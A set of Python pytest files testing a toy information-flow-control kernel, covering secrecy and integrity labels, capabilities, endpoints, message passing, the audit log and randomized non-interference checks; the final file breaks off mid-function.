    def test_no_active_trace_leaves_extra_clean(self):
        log = AuditLog()
        log.trace_source = _StubTracer(None)
        e = log.record("export", True, "gateway", "ok")
        assert "trace_id" not in e.extra

    def test_default_log_has_no_source(self):
        e = AuditLog().record("spawn", True, "provider", "boot")
        assert "trace_id" not in e.extra
