"""Unit tests for label changes and endpoint declarations."""

import pytest

from repro.labels import (CapabilityError, CapabilitySet, Label,
                          SecrecyViolation, minus, plus)
from repro.kernel import EndpointMisuse, Kernel, RECV, SEND


@pytest.fixture()
def kernel():
    return Kernel()


@pytest.fixture()
def proc(kernel):
    return kernel.spawn_trusted("app")


class TestLabelChange:
    def test_raise_with_plus_cap(self, kernel, proc):
        t = kernel.create_tag(proc)
        kernel.drop_caps(proc, [minus(t)])
        kernel.change_label(proc, secrecy=Label([t]))
        assert t in proc.slabel

    def test_raise_without_cap_refused(self, kernel, proc):
        other = kernel.spawn_trusted("other")
        t = kernel.create_tag(other)
        with pytest.raises(CapabilityError):
            kernel.change_label(proc, secrecy=Label([t]))

    def test_lower_without_minus_refused(self, kernel, proc):
        t = kernel.create_tag(proc)
        kernel.change_label(proc, secrecy=Label([t]))
        kernel.drop_caps(proc, [minus(t)])
        with pytest.raises(CapabilityError):
            kernel.change_label(proc, secrecy=Label.EMPTY)

    def test_integrity_change(self, kernel, proc):
        t = kernel.create_tag(proc, kind="integrity")
        kernel.change_label(proc, integrity=Label([t]))
        assert t in proc.ilabel

    def test_refused_change_leaves_labels_intact(self, kernel, proc):
        other = kernel.spawn_trusted("other")
        t = kernel.create_tag(other)
        with pytest.raises(CapabilityError):
            kernel.change_label(proc, secrecy=Label([t]))
        assert proc.slabel == Label.EMPTY

    def test_syscall_helpers(self, kernel, proc):
        sys = kernel.syscalls_for(proc)
        t = sys.create_tag("x")
        sys.raise_secrecy(t)
        assert t in sys.my_secrecy()
        sys.lower_secrecy(t)
        assert t not in sys.my_secrecy()


class TestEndpointDeclaration:
    def test_default_endpoint_mirrors_process(self, kernel, proc):
        t = kernel.create_tag(proc)
        kernel.change_label(proc, secrecy=Label([t]))
        ep = kernel.create_endpoint(proc)
        assert ep.slabel == Label([t])

    def test_endpoint_above_label_needs_plus(self, kernel, proc):
        t = kernel.create_tag(proc)
        kernel.drop_caps(proc, [minus(t)])
        ep = kernel.create_endpoint(proc, slabel=Label([t]))
        assert t in ep.slabel

    def test_endpoint_below_label_needs_minus(self, kernel):
        k = Kernel()
        root = k.spawn_trusted("root")
        t = k.create_tag(root)
        # tainted process WITH t-: may declare a clean send endpoint
        declas = k.spawn_trusted("declas", slabel=Label([t]),
                                 caps=CapabilitySet([minus(t)]))
        ep = k.create_endpoint(declas, slabel=Label.EMPTY, direction=SEND)
        assert ep.slabel == Label.EMPTY
        # tainted process WITHOUT t-: refused
        tainted = k.spawn_trusted("tainted", slabel=Label([t]))
        with pytest.raises(SecrecyViolation):
            k.create_endpoint(tainted, slabel=Label.EMPTY, direction=SEND)

    def test_unrelated_tag_refused(self, kernel, proc):
        other = kernel.spawn_trusted("other")
        t = kernel.create_tag(other)
        with pytest.raises(SecrecyViolation):
            kernel.create_endpoint(proc, slabel=Label([t]))

    def test_bad_direction_rejected(self, kernel, proc):
        with pytest.raises(EndpointMisuse):
            kernel.create_endpoint(proc, direction="sideways")

    def test_close_endpoint(self, kernel, proc):
        ep = kernel.create_endpoint(proc)
        kernel.close_endpoint(proc, ep)
        assert ep.closed

    def test_cannot_close_foreign_endpoint(self, kernel, proc):
        other = kernel.spawn_trusted("other")
        ep = kernel.create_endpoint(other)
        with pytest.raises(EndpointMisuse):
            kernel.close_endpoint(proc, ep)


class TestEndpointRevalidation:
    def test_label_change_closes_out_of_reach_endpoints(self, kernel, proc):
        """After dropping t- the process can no longer keep a clean
        endpoint while tainted: raising secrecy closes it."""
        t = kernel.create_tag(proc)
        clean_ep = kernel.create_endpoint(proc, slabel=Label.EMPTY,
                                          direction=SEND, name="out")
        kernel.drop_caps(proc, [minus(t)])
        closed = kernel.change_label(proc, secrecy=Label([t]))
        assert clean_ep in closed
        assert clean_ep.closed

    def test_endpoint_survives_if_still_reachable(self, kernel, proc):
        t = kernel.create_tag(proc)
        ep = kernel.create_endpoint(proc, name="flex")
        # process keeps ownership of t, so the clean endpoint stays legal
        closed = kernel.change_label(proc, secrecy=Label([t]))
        assert ep not in closed
        assert not ep.closed
