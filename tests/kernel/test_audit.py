"""Unit tests for the audit log."""

import pytest

from repro.kernel import AuditLog


class TestAuditLog:
    def test_record_and_len(self):
        log = AuditLog()
        log.record("send", True, "a", "x")
        log.record("send", False, "b", "y")
        assert len(log) == 2

    def test_sequence_numbers_increase(self):
        log = AuditLog()
        e1 = log.record("send", True, "a", "x")
        e2 = log.record("send", True, "a", "y")
        assert e2.seq == e1.seq + 1

    def test_filter_by_category(self):
        log = AuditLog()
        log.record("send", True, "a", "x")
        log.record("export", False, "gw", "y")
        assert len(log.events(category="export")) == 1

    def test_filter_by_subject_and_allowed(self):
        log = AuditLog()
        log.record("send", True, "a", "x")
        log.record("send", False, "a", "y")
        log.record("send", False, "b", "z")
        assert len(log.events(subject="a", allowed=False)) == 1

    def test_denials_helper(self):
        log = AuditLog()
        log.record("send", True, "a", "x")
        log.record("send", False, "a", "y")
        assert [e.detail for e in log.denials()] == ["y"]

    def test_count(self):
        log = AuditLog()
        for __ in range(3):
            log.record("send", True, "a", "x")
        assert log.count(category="send") == 3
        assert log.count(category="send", allowed=False) == 0

    def test_last_and_clear(self):
        log = AuditLog()
        assert log.last() is None
        log.record("send", True, "a", "x")
        assert log.last().detail == "x"
        log.clear()
        assert len(log) == 0

    def test_capacity_bound(self):
        log = AuditLog(capacity=3)
        for i in range(10):
            log.record("send", True, "a", str(i))
        assert len(log) == 3
        assert [e.detail for e in log] == ["7", "8", "9"]

    def test_max_events_ring_counts_drops(self):
        log = AuditLog(max_events=3)
        assert log.max_events == 3
        for i in range(10):
            log.record("send", True, "a", str(i))
        assert len(log) == 3
        assert log.dropped == 7
        assert log.total_recorded == 10
        assert [e.detail for e in log] == ["7", "8", "9"]

    def test_unbounded_log_never_drops(self):
        log = AuditLog()
        for i in range(100):
            log.record("send", True, "a", str(i))
        assert len(log) == 100
        assert log.dropped == 0

    def test_ring_keeps_counters_and_subscribers_whole(self):
        log = AuditLog(max_events=2)
        seen = []
        log.subscribe(seen.append)
        for i in range(5):
            log.record("send", i % 2 == 0, "a", str(i))
        # subscribers saw every event even though the buffer trimmed
        assert len(seen) == 5
        # count() reflects only the retained window, by design
        assert log.count(category="send") == 2

    def test_subscriber_notified(self):
        log = AuditLog()
        seen = []
        log.subscribe(seen.append)
        log.record("send", True, "a", "x")
        assert len(seen) == 1 and seen[0].detail == "x"

    def test_extra_kwargs_stored(self):
        log = AuditLog()
        e = log.record("send", True, "a", "x", message_id=7)
        assert e.extra["message_id"] == 7
