"""Property-based tests: the kernel never lets taint escape.

We drive a small random system of processes through random sequences
of syscalls (label changes, endpoint declarations, sends, receives)
and assert the global non-interference invariant: a process that never
held ``t-`` for a secret tag, and whose endpoints never carried the
tag, cannot end up holding a payload derived from the tagged source
unless its own secrecy label (or a received endpoint) included the tag.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.labels import CapabilitySet, Label, LabelError, minus, plus
from repro.kernel import Kernel, KernelError, RECV, SEND

SECRET_PAYLOAD = "THE-SECRET"


def run_random_system(seed_ops):
    """Build: one source process tainted with t holding the secret, and
    three mule processes with assorted capabilities. Apply random ops;
    return (kernel, tag, processes) for invariant checking."""
    kernel = Kernel()
    root = kernel.spawn_trusted("root")
    t = kernel.create_tag(root, purpose="secret")

    source = kernel.spawn_trusted("source", slabel=Label([t]))
    source.locals["data"] = SECRET_PAYLOAD

    mules = []
    # mule 0: no caps; mule 1: t+ only; mule 2: t+ and t-
    for i, caps in enumerate([CapabilitySet.EMPTY,
                              CapabilitySet([plus(t)]),
                              CapabilitySet([plus(t), minus(t)])]):
        mules.append(kernel.spawn_trusted(f"mule{i}", caps=caps))

    procs = [source] + mules
    endpoints = {p.pid: [] for p in procs}

    for op in seed_ops:
        kind = op[0]
        try:
            if kind == "endpoint":
                __, pi, taint, direction = op
                p = procs[pi % len(procs)]
                slabel = Label([t]) if taint else Label.EMPTY
                ep = kernel.create_endpoint(
                    p, slabel=slabel,
                    direction=SEND if direction else RECV)
                endpoints[p.pid].append(ep)
            elif kind == "send":
                __, pi, qi, ei, fi = op
                p = procs[pi % len(procs)]
                q = procs[qi % len(procs)]
                if not endpoints[p.pid] or not endpoints[q.pid]:
                    continue
                ep = endpoints[p.pid][ei % len(endpoints[p.pid])]
                fq = endpoints[q.pid][fi % len(endpoints[q.pid])]
                payload = p.locals.get("data", "boring")
                kernel.send(p, ep, fq, payload)
            elif kind == "recv":
                __, pi = op
                p = procs[pi % len(procs)]
                msg = kernel.receive(p)
                p.locals["data"] = msg.payload
            elif kind == "raise":
                __, pi = op
                p = procs[pi % len(procs)]
                kernel.change_label(p, secrecy=p.slabel.add(t))
            elif kind == "lower":
                __, pi = op
                p = procs[pi % len(procs)]
                kernel.change_label(p, secrecy=p.slabel.remove(t))
        except (LabelError, KernelError):
            continue
    return kernel, t, procs


def ops():
    endpoint = st.tuples(st.just("endpoint"), st.integers(0, 3),
                         st.booleans(), st.booleans())
    send = st.tuples(st.just("send"), st.integers(0, 3), st.integers(0, 3),
                     st.integers(0, 5), st.integers(0, 5))
    recv = st.tuples(st.just("recv"), st.integers(0, 3))
    raise_ = st.tuples(st.just("raise"), st.integers(0, 3))
    lower = st.tuples(st.just("lower"), st.integers(0, 3))
    return st.lists(st.one_of(endpoint, send, recv, raise_, lower),
                    max_size=40)


class TestNonInterference:
    @settings(max_examples=120, deadline=None)
    @given(ops())
    def test_secret_never_reaches_untainted_context(self, seed_ops):
        """Wherever the secret payload ends up, the holder must be in a
        context entitled to it: tainted with t, or holding t+ (it could
        taint itself), or t- (owner-sanctioned declassification)."""
        kernel, t, procs = run_random_system(seed_ops)
        for p in procs:
            if p.locals.get("data") == SECRET_PAYLOAD and p.name != "source":
                entitled = (t in p.slabel or p.caps.can_add(t)
                            or p.caps.can_remove(t))
                assert entitled, (
                    f"{p.name} holds the secret with S={p.slabel!r} "
                    f"caps={p.caps!r}")

    @settings(max_examples=120, deadline=None)
    @given(ops())
    def test_capless_mule_never_sees_secret(self, seed_ops):
        """mule0 has no capabilities for t at all: even via any chain of
        mules, the kernel must never deliver the secret to it."""
        kernel, t, procs = run_random_system(seed_ops)
        mule0 = procs[1]
        assert mule0.locals.get("data") != SECRET_PAYLOAD

    @settings(max_examples=60, deadline=None)
    @given(ops())
    def test_all_endpoints_remain_within_reach(self, seed_ops):
        """Invariant: every open endpoint's labels stay inside its
        owner's capability reach after any syscall sequence."""
        kernel, t, procs = run_random_system(seed_ops)
        for p in procs:
            for ep in p.endpoints.values():
                if not ep.closed:
                    assert p.endpoint_legal(ep)

    @settings(max_examples=60, deadline=None)
    @given(ops())
    def test_denied_flows_are_audited(self, seed_ops):
        """Every SecrecyViolation raised by send() leaves a DENY record."""
        kernel, t, procs = run_random_system(seed_ops)
        sends_denied = kernel.audit.count(category="send", allowed=False)
        # weak but useful sanity: denials never exceed total send attempts
        sends_total = kernel.audit.count(category="send")
        assert sends_denied <= sends_total
