"""Unit tests for process creation, spawn flow checks, and exit."""

import pytest

from repro.labels import CapabilityError, CapabilitySet, Label, minus, plus
from repro.kernel import (DeadProcess, Kernel, NoSuchProcess)


@pytest.fixture()
def kernel():
    return Kernel()


class TestTrustedSpawn:
    def test_spawn_trusted_basic(self, kernel):
        p = kernel.spawn_trusted("login")
        assert p.alive
        assert kernel.process(p.pid) is p
        assert p.slabel == Label.EMPTY

    def test_pids_unique(self, kernel):
        pids = {kernel.spawn_trusted(f"p{i}").pid for i in range(10)}
        assert len(pids) == 10

    def test_spawn_trusted_with_labels(self, kernel):
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="bob")
        p = kernel.spawn_trusted("worker", slabel=Label([t]))
        assert t in p.slabel

    def test_audit_records_spawn(self, kernel):
        kernel.spawn_trusted("svc")
        assert kernel.audit.count(category="spawn", allowed=True) == 1


class TestChildSpawn:
    def test_child_inherits_labels_by_default(self, kernel):
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="x")
        kernel.change_label(root, secrecy=Label([t]))
        child_sys = kernel.syscalls_for(root).spawn("child")
        assert t in child_sys.my_secrecy()

    def test_grant_must_be_subset_of_parent(self, kernel):
        root = kernel.spawn_trusted("root")
        stranger = kernel.spawn_trusted("stranger")
        t = kernel.create_tag(stranger, purpose="not-roots")
        with pytest.raises(CapabilityError):
            kernel.spawn(root, "child", grant=CapabilitySet([plus(t)]))

    def test_parent_can_delegate_owned_caps(self, kernel):
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="x")
        child = kernel.spawn(root, "child",
                             grant=CapabilitySet([plus(t), minus(t)]))
        assert child.caps.owns(t)

    def test_tainted_parent_cannot_spawn_clean_child(self, kernel):
        """A parent carrying taint it cannot shed must not launder it
        into an untainted child."""
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        tainted = kernel.spawn_trusted("tainted", slabel=Label([t]))
        with pytest.raises(Exception):
            kernel.spawn(tainted, "laundry", slabel=Label.EMPTY)

    def test_tainted_parent_with_minus_can(self, kernel):
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        declas = kernel.spawn_trusted("declas", slabel=Label([t]),
                                      caps=CapabilitySet([minus(t)]))
        child = kernel.spawn(declas, "clean", slabel=Label.EMPTY)
        assert child.slabel == Label.EMPTY

    def test_child_owner_user_inherited(self, kernel):
        root = kernel.spawn_trusted("root", owner_user="bob")
        child = kernel.spawn(root, "child")
        assert child.owner_user == "bob"

    def test_denied_spawn_audited(self, kernel):
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root, purpose="secret")
        tainted = kernel.spawn_trusted("tainted", slabel=Label([t]))
        with pytest.raises(Exception):
            kernel.spawn(tainted, "laundry", slabel=Label.EMPTY)
        assert kernel.audit.count(category="spawn", allowed=False) == 1


class TestExit:
    def test_exit_marks_dead_and_closes_endpoints(self, kernel):
        p = kernel.spawn_trusted("p")
        ep = kernel.create_endpoint(p, name="port")
        kernel.exit(p, value=42)
        assert not p.alive
        assert p.exit_value == 42
        assert ep.closed

    def test_dead_process_cannot_act(self, kernel):
        p = kernel.spawn_trusted("p")
        kernel.exit(p)
        with pytest.raises(DeadProcess):
            kernel.create_endpoint(p)
        with pytest.raises(DeadProcess):
            kernel.create_tag(p)

    def test_double_exit_is_noop(self, kernel):
        p = kernel.spawn_trusted("p")
        kernel.exit(p, value=1)
        kernel.exit(p, value=2)
        assert p.exit_value == 1

    def test_unknown_pid_raises(self, kernel):
        with pytest.raises(NoSuchProcess):
            kernel.process(999)


class TestTagCreation:
    def test_creator_owns_new_tag(self, kernel):
        p = kernel.spawn_trusted("p")
        t = kernel.create_tag(p, purpose="mine")
        assert p.caps.owns(t)

    def test_tag_owner_defaults_to_process_user(self, kernel):
        p = kernel.spawn_trusted("p", owner_user="bob")
        t = kernel.create_tag(p)
        assert t.owner == "bob"

    def test_tag_registered_in_kernel_registry(self, kernel):
        p = kernel.spawn_trusted("p")
        t = kernel.create_tag(p)
        assert kernel.tags.lookup(t.tag_id) is t
