"""Unit tests for IPC: send/receive, flow enforcement, cap delegation."""

import pytest

from repro.labels import (CapabilityError, CapabilitySet, IntegrityViolation,
                          Label, SecrecyViolation, minus, plus)
from repro.kernel import (DeadProcess, EndpointMisuse, Kernel, MailboxEmpty,
                          NoSuchEndpoint, RECV, SEND)


@pytest.fixture()
def kernel():
    return Kernel()


def make_pair(kernel, s_a=Label.EMPTY, s_b=Label.EMPTY,
              caps_a=CapabilitySet.EMPTY, caps_b=CapabilitySet.EMPTY):
    a = kernel.spawn_trusted("a", slabel=s_a, caps=caps_a)
    b = kernel.spawn_trusted("b", slabel=s_b, caps=caps_b)
    ep_a = kernel.create_endpoint(a, direction=SEND, name="a.out")
    ep_b = kernel.create_endpoint(b, direction=RECV, name="b.in")
    return a, b, ep_a, ep_b


class TestBasicMessaging:
    def test_roundtrip(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        kernel.send(a, ep_a, ep_b, {"hello": "world"}, topic="greet")
        msg = kernel.receive(b, topic="greet")
        assert msg.payload == {"hello": "world"}
        assert msg.sender_pid == a.pid

    def test_fifo_order(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        for i in range(5):
            kernel.send(a, ep_a, ep_b, i)
        got = [kernel.receive(b).payload for _ in range(5)]
        assert got == [0, 1, 2, 3, 4]

    def test_topic_filter(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        kernel.send(a, ep_a, ep_b, 1, topic="x")
        kernel.send(a, ep_a, ep_b, 2, topic="y")
        assert kernel.receive(b, topic="y").payload == 2
        assert kernel.receive(b, topic="x").payload == 1

    def test_endpoint_filter(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        ep_b2 = kernel.create_endpoint(b, direction=RECV, name="b.in2")
        kernel.send(a, ep_a, ep_b2, "two")
        with pytest.raises(MailboxEmpty):
            kernel.receive(b, endpoint=ep_b)
        assert kernel.receive(b, endpoint=ep_b2).payload == "two"

    def test_empty_mailbox_raises(self, kernel):
        __, b, __, __ = make_pair(kernel)
        with pytest.raises(MailboxEmpty):
            kernel.receive(b)

    def test_pending_counts(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        kernel.send(a, ep_a, ep_b, 1, topic="x")
        kernel.send(a, ep_a, ep_b, 2, topic="x")
        kernel.send(a, ep_a, ep_b, 3, topic="y")
        assert kernel.pending(b) == 3
        assert kernel.pending(b, topic="x") == 2


class TestEndpointMisuseCases:
    def test_send_from_foreign_endpoint(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        with pytest.raises(EndpointMisuse):
            kernel.send(b, ep_a, ep_b, "spoof")

    def test_send_from_recv_endpoint(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        ep_a_in = kernel.create_endpoint(a, direction=RECV)
        with pytest.raises(EndpointMisuse):
            kernel.send(a, ep_a_in, ep_b, "x")

    def test_send_to_send_endpoint(self, kernel):
        a, b, ep_a, __ = make_pair(kernel)
        ep_b_out = kernel.create_endpoint(b, direction=SEND)
        with pytest.raises(EndpointMisuse):
            kernel.send(a, ep_a, ep_b_out, "x")

    def test_send_to_closed_endpoint(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        kernel.close_endpoint(b, ep_b)
        with pytest.raises(NoSuchEndpoint):
            kernel.send(a, ep_a, ep_b, "x")

    def test_send_to_dead_process(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        kernel.exit(b)
        with pytest.raises((DeadProcess, NoSuchEndpoint)):
            kernel.send(a, ep_a, ep_b, "x")


class TestFlowEnforcement:
    def test_tainted_to_clean_refused(self, kernel):
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root)
        a = kernel.spawn_trusted("tainted", slabel=Label([t]))
        b = kernel.spawn_trusted("clean")
        ep_a = kernel.create_endpoint(a, direction=SEND)
        ep_b = kernel.create_endpoint(b, direction=RECV)
        with pytest.raises(SecrecyViolation):
            kernel.send(a, ep_a, ep_b, "secret")
        # the denial is audited
        assert kernel.audit.count(category="send", allowed=False) == 1

    def test_clean_to_tainted_allowed(self, kernel):
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root)
        a = kernel.spawn_trusted("clean")
        b = kernel.spawn_trusted("tainted", slabel=Label([t]))
        ep_a = kernel.create_endpoint(a, direction=SEND)
        ep_b = kernel.create_endpoint(b, direction=RECV)
        kernel.send(a, ep_a, ep_b, "public")
        assert kernel.receive(b).payload == "public"

    def test_receiver_can_accept_taint_via_declared_endpoint(self, kernel):
        """A clean process holding t+ accepts tainted data by declaring
        a tainted receive endpoint — the explicit Flume discipline."""
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root)
        a = kernel.spawn_trusted("tainted", slabel=Label([t]))
        b = kernel.spawn_trusted("reader", caps=CapabilitySet([plus(t)]))
        ep_a = kernel.create_endpoint(a, direction=SEND)
        ep_b = kernel.create_endpoint(b, direction=RECV, slabel=Label([t]))
        kernel.send(a, ep_a, ep_b, "secret")
        assert kernel.receive(b).payload == "secret"

    def test_capabilities_never_apply_implicitly_at_send(self, kernel):
        """The endpoint discipline's whole point: a declassifier
        holding t- still cannot leak through its *default* (tainted)
        endpoint — declassification must be an explicit act (declaring
        the clean outlet), never a side effect of holding power."""
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root)
        declas = kernel.spawn_trusted("declas", slabel=Label([t]),
                                      caps=CapabilitySet([minus(t)]))
        out_default = kernel.create_endpoint(declas, direction=SEND)
        clean = kernel.spawn_trusted("outside")
        inbox = kernel.create_endpoint(clean, direction=RECV)
        with pytest.raises(SecrecyViolation):
            kernel.send(declas, out_default, inbox, "oops")

    def test_declassifier_endpoint_lets_data_out(self, kernel):
        root = kernel.spawn_trusted("root")
        t = kernel.create_tag(root)
        declas = kernel.spawn_trusted("declas", slabel=Label([t]),
                                      caps=CapabilitySet([minus(t)]))
        out = kernel.spawn_trusted("outside")
        ep_d = kernel.create_endpoint(declas, slabel=Label.EMPTY,
                                      direction=SEND)
        ep_o = kernel.create_endpoint(out, direction=RECV)
        kernel.send(declas, ep_d, ep_o, "approved-export")
        assert kernel.receive(out).payload == "approved-export"

    def test_integrity_required_by_receiver(self, kernel):
        root = kernel.spawn_trusted("root")
        i = kernel.create_tag(root, kind="integrity")
        sender = kernel.spawn_trusted("unendorsed")
        receiver = kernel.spawn_trusted("picky", ilabel=Label([i]),
                                        caps=CapabilitySet([plus(i), minus(i)]))
        ep_s = kernel.create_endpoint(sender, direction=SEND)
        ep_r = kernel.create_endpoint(receiver, direction=RECV,
                                      ilabel=Label([i]))
        with pytest.raises(IntegrityViolation):
            kernel.send(sender, ep_s, ep_r, "untrusted bits")

    def test_endorsed_sender_passes_integrity(self, kernel):
        root = kernel.spawn_trusted("root")
        i = kernel.create_tag(root, kind="integrity")
        sender = kernel.spawn_trusted("endorsed", ilabel=Label([i]))
        receiver = kernel.spawn_trusted("picky", ilabel=Label([i]),
                                        caps=CapabilitySet.owning(i))
        ep_s = kernel.create_endpoint(sender, direction=SEND)
        ep_r = kernel.create_endpoint(receiver, direction=RECV,
                                      ilabel=Label([i]))
        kernel.send(sender, ep_s, ep_r, "trusted bits")
        assert kernel.receive(receiver).payload == "trusted bits"


class TestCapabilityDelegation:
    def test_grant_travels_with_message(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        t = kernel.create_tag(a)
        kernel.send(a, ep_a, ep_b, "here are the keys",
                    grant=CapabilitySet([plus(t), minus(t)]))
        kernel.receive(b)
        assert b.caps.owns(t)

    def test_grant_applied_only_on_receive(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        t = kernel.create_tag(a)
        kernel.send(a, ep_a, ep_b, "keys", grant=CapabilitySet([plus(t)]))
        assert not b.caps.can_add(t)  # not yet received
        kernel.receive(b)
        assert b.caps.can_add(t)

    def test_cannot_grant_unheld_caps(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        other = kernel.spawn_trusted("other")
        t = kernel.create_tag(other)
        with pytest.raises(CapabilityError):
            kernel.send(a, ep_a, ep_b, "x", grant=CapabilitySet([plus(t)]))

    def test_grant_check_precedes_delivery(self, kernel):
        a, b, ep_a, ep_b = make_pair(kernel)
        other = kernel.spawn_trusted("other")
        t = kernel.create_tag(other)
        with pytest.raises(CapabilityError):
            kernel.send(a, ep_a, ep_b, "x", grant=CapabilitySet([minus(t)]))
        assert kernel.pending(b) == 0
