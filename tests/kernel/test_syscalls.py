"""Direct coverage of the W5Syscalls facade (the only API apps get)."""

import pytest

from repro.kernel import Kernel, MailboxEmpty, RECV, SEND
from repro.labels import CapabilitySet, Label, minus, plus


@pytest.fixture()
def kernel():
    return Kernel()


@pytest.fixture()
def sys(kernel):
    proc = kernel.spawn_trusted("app", owner_user="bob")
    return kernel.syscalls_for(proc)


class TestIntrospection:
    def test_identity(self, sys):
        assert sys.name == "app"
        assert isinstance(sys.pid, int)

    def test_labels_start_empty(self, sys):
        assert sys.my_secrecy() == Label.EMPTY
        assert sys.my_integrity() == Label.EMPTY
        assert len(sys.my_caps()) == 0

    def test_locals_scratch(self, sys):
        sys.locals()["x"] = 42
        assert sys.locals()["x"] == 42


class TestLabelSyscalls:
    def test_create_tag_confers_ownership(self, sys):
        t = sys.create_tag("mine")
        assert sys.my_caps().owns(t)
        assert t.owner == "bob"  # inherited from the process owner

    def test_raise_lower_roundtrip(self, sys):
        t = sys.create_tag("x")
        sys.raise_secrecy(t)
        assert t in sys.my_secrecy()
        sys.lower_secrecy(t)
        assert t not in sys.my_secrecy()

    def test_drop_caps_is_permanent(self, sys):
        from repro.labels import CapabilityError
        t = sys.create_tag("x")
        sys.drop_caps(minus(t))
        sys.raise_secrecy(t)  # still has plus
        with pytest.raises(CapabilityError):
            sys.lower_secrecy(t)

    def test_change_label_integrity(self, sys):
        t = sys.create_tag("w", kind="integrity")
        sys.change_label(integrity=Label([t]))
        assert t in sys.my_integrity()


class TestIpcSyscalls:
    def test_endpoint_lifecycle(self, sys):
        ep = sys.create_endpoint(direction=RECV, name="in")
        assert not ep.closed
        sys.close_endpoint(ep)
        assert ep.closed

    def test_send_receive_between_children(self, sys):
        """A parent spawns two children and bridges them."""
        a = sys.spawn("child-a")
        b = sys.spawn("child-b")
        out = a.create_endpoint(direction=SEND)
        inbox = b.create_endpoint(direction=RECV)
        a.send(out, inbox, {"msg": "hi"}, topic="greet")
        assert b.pending(topic="greet") == 1
        assert b.receive(topic="greet").payload == {"msg": "hi"}

    def test_grant_over_ipc(self, sys):
        t = sys.create_tag("shared")
        child = sys.spawn("child")
        out = sys.create_endpoint(direction=SEND)
        inbox = child.create_endpoint(direction=RECV)
        sys.send(out, inbox, "keys", grant=CapabilitySet([plus(t)]))
        child.receive()
        assert child.my_caps().can_add(t)

    def test_pending_empty(self, sys):
        assert sys.pending() == 0
        with pytest.raises(MailboxEmpty):
            sys.receive()


class TestProcessSyscalls:
    def test_spawn_returns_child_handle(self, sys):
        child = sys.spawn("worker")
        assert child.name == "worker"
        assert child.pid != sys.pid

    def test_spawn_with_attenuated_grant(self, sys):
        t = sys.create_tag("x")
        child = sys.spawn("worker", grant=CapabilitySet([plus(t)]))
        assert child.my_caps().can_add(t)
        assert not child.my_caps().can_remove(t)

    def test_child_inherits_owner_user(self, kernel, sys):
        child = sys.spawn("worker")
        assert kernel.process(child.pid).owner_user == "bob"

    def test_exit(self, kernel, sys):
        child = sys.spawn("worker")
        child.exit(value="done")
        assert not kernel.process(child.pid).alive
        assert kernel.process(child.pid).exit_value == "done"

    def test_exited_child_rejects_syscalls(self, sys):
        from repro.kernel import DeadProcess
        child = sys.spawn("worker")
        child.exit()
        with pytest.raises(DeadProcess):
            child.create_tag("too-late")
