"""Differential property test: the flow cache changes nothing.

Two kernels — one with the default ``FlowCache``, one with a
pass-through ``FlowCache(enabled=False)`` — are driven through the
*same* randomly generated syscall history.  Every operation must agree:
same success or same exception type with the same message, same final
labels, same delivered payloads.  Hypothesis shrinks any divergence to
a minimal witness.

A separate regression class pins the invalidation contract: a verdict
cached before a label-change syscall must never be served after it.
"""

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.kernel import Kernel, KernelError, RECV, SEND
from repro.labels import CapabilitySet, FlowCache, Label, LabelError, minus, plus


def build_system(kernel):
    """One tainted source + three mules with graded privilege."""
    root = kernel.spawn_trusted("root")
    t = kernel.create_tag(root, purpose="secret")
    procs = [kernel.spawn_trusted("source", slabel=Label([t]))]
    for i, caps in enumerate([CapabilitySet.EMPTY,
                              CapabilitySet([plus(t)]),
                              CapabilitySet([plus(t), minus(t)])]):
        procs.append(kernel.spawn_trusted(f"mule{i}", caps=caps))
    return t, procs


def apply_op(kernel, t, procs, endpoints, op):
    """Run one op; return a comparable outcome record."""
    kind = op[0]
    try:
        if kind == "endpoint":
            _, pi, taint, direction = op
            p = procs[pi % len(procs)]
            ep = kernel.create_endpoint(
                p, slabel=Label([t]) if taint else Label.EMPTY,
                direction=SEND if direction else RECV)
            endpoints[p.pid].append(ep)
            return ("endpoint", p.pid)
        elif kind == "send":
            _, pi, qi, ei, fi = op
            p = procs[pi % len(procs)]
            q = procs[qi % len(procs)]
            if not endpoints[p.pid] or not endpoints[q.pid]:
                return ("skip",)
            ep = endpoints[p.pid][ei % len(endpoints[p.pid])]
            fq = endpoints[q.pid][fi % len(endpoints[q.pid])]
            msg = kernel.send(p, ep, fq, f"payload-{pi}-{qi}")
            return ("sent", msg.recipient_pid)
        elif kind == "recv":
            _, pi = op
            p = procs[pi % len(procs)]
            msg = kernel.receive(p)
            return ("recv", msg.payload)
        elif kind == "raise":
            _, pi = op
            p = procs[pi % len(procs)]
            closed = kernel.change_label(p, secrecy=p.slabel.add(t))
            return ("raised", len(closed))
        elif kind == "lower":
            _, pi = op
            p = procs[pi % len(procs)]
            closed = kernel.change_label(p, secrecy=p.slabel.remove(t))
            return ("lowered", len(closed))
        elif kind == "drop":
            _, pi = op
            p = procs[pi % len(procs)]
            kernel.drop_caps(p, [minus(t)])
            return ("dropped",)
        return ("noop",)
    except (LabelError, KernelError) as e:
        # endpoint/message ids come from module-global counters the two
        # kernels share, so mask them: only the *shape* must agree
        return ("error", type(e).__name__, re.sub(r"#?\d+", "#", str(e)))


def ops():
    endpoint = st.tuples(st.just("endpoint"), st.integers(0, 3),
                         st.booleans(), st.booleans())
